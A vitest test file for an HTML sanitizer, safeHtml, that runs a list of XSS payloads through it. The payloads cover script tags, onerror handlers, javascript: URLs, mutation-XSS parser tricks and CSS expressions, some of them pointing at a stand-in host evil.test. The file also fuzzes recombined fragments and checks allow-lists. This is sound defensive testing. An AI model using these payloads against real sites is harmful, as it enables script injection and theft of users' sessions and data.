import { describe, expect, test } from 'vitest';
import { safeHtml } from '../../../src/lib/text/safe-html.js';
import { draws, seen } from '../../kit/safe-html.js';

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<ScRiPt/src=//evil.test></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x`onerror=alert(1)">',
  '<img/src/onerror=alert(1)//',
  '<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action="https://evil.test"><input name=password><button formaction=javascript:alert(1)>Go</form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript&colon;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="/relative">x</a>',
  '<a href=\'https://a.test/" onmouseover="alert(1)\'>x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"><embed src="javascript:alert(1)">',
  '<base href="https://evil.test/"><link rel=stylesheet href=//evil.test><meta http-equiv=refresh content="0;url=//evil.test">',
  '<style>body{background:url(//evil.test)}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;z-index:9999;width:100%;height:100%">x</div>',
  '<div style="margin:0 -500px">x</div>',
  '<div style="color:red;behavior:url(x);-moz-binding:url(x)">x</div>',
  '<div style="font-family:\'x\\27 ;background:u\\72l(//evil.test)\'">x</div>',
  '<div id=location name=cookie class=admin>x</div>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<table><tr><td><select><option><style></option></select></td></tr></table><img src=x onerror=alert(1)></style>',
  '<p title="a&quot; onclick=&quot;alert(1)">x</p>',
  '<<img src=x onerror=alert(1)>>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<b><i></b></i></p></div></td></table><plaintext>x',
  '</textarea/><img src=x onerror=alert(1)>',
  '<img srcset="javascript:alert(1)" background="javascript:alert(1)" dynsrc="javascript:alert(1)" lowsrc=x>',
];

const allowedElements =
  /^(a|abbr|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|ol|p|pre|q|s|samp|section|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|var)$/;
const allowedAttributes =
  /^(align|alt|bgcolor|border|cellpadding|cellspacing|color|colspan|dir|face|height|href|lang|rel|rowspan|size|span|src|start|style|target|title|type|valign|value|width)$/;

function expectSafe(html: string): void {
  const { elements, comments } = seen(html);
  expect(comments).toBe(0);
  for (const { name, attributes } of elements) {
    expect(name).toMatch(allowedElements);
    for (const [attribute, value] of attributes) {
      expect(attribute).toMatch(allowedAttributes);
      if (attribute === 'href') expect(value).toMatch(/^(https?|mailto|tel):/i);
      if (attribute === 'src') expect(value).toMatch(/^https?:/i);
      if (attribute === 'style') expect(value).not.toMatch(/url|expression|\\|position|behavior|binding|: ?-|, ?-| -/i);
    }
  }
}

describe('HTML of strangers', () => {
  test.each(attacks)('%s holds nothing that acts', (attack) => {
    const safe = safeHtml(attack) ?? '';
    expectSafe(safe);
    // Made safe once more it stays as it is: it says to every parser what it says to ours.
    expect(safeHtml(safe)).toBe(safe);
  });

  test('put together from pieces of attacks holds nothing that acts', () => {
    const pieces = attacks.flatMap((attack) => attack.split(/(?<=[<>"'=/ -])/));
    const next = draws(7);
    for (let round = 0; round < 3_000; round += 1) {
      const html = Array.from({ length: 2 + next(12) }, () => pieces[next(pieces.length)]).join('');
      expectSafe(safeHtml(html) ?? '');
    }
  });

  test('keeps text, layout, links and images', () => {
    const html = `<table width="600" bgcolor="#fff"><tbody><tr><td style="color:#333; PADDING : 10px;font-family:Arial, 'Times'" align="center">
      <h1>Hi &amp; welcome</h1><ul><li>One</li></ul><img src="https://a.test/i.png?a=1&amp;b=2" alt="A" width="10"><br>
      </td></tr></tbody></table>`;
    expect(safeHtml(html)).toBe(
      html.replace(/style="[^"]+"/, `style="color: #333; padding: 10px; font-family: Arial, 'Times'"`),
    );
    expect(safeHtml('<a href="https://a.test/?x=1&y=2">x</a>')).toBe(
      '<a href="https://a.test/?x=1&amp;y=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  test('of a whole page keeps the body without what stands in the head', () => {
    const page =
      '<!DOCTYPE html><html><head><title>T</title><style>p{}</style></head><body bgcolor=red><p>x</p></body></html>';
    expect(safeHtml(page)).toBe('<p>x</p>');
  });

  test('is closed where it is left open', () => {
    expect(safeHtml('</div><div><b>x')).toBe('<div><b>x</b></div>');
  });

  test('with more tags than anybody writes is not shown, and with as many in moderate time', () => {
    expect(safeHtml('<b>'.repeat(20_001))).toBeNull();
    expect(safeHtml(`${'<i>'.repeat(10_000)}${'</q>'.repeat(9_990)}`)).toContain('</i>');
  });
});
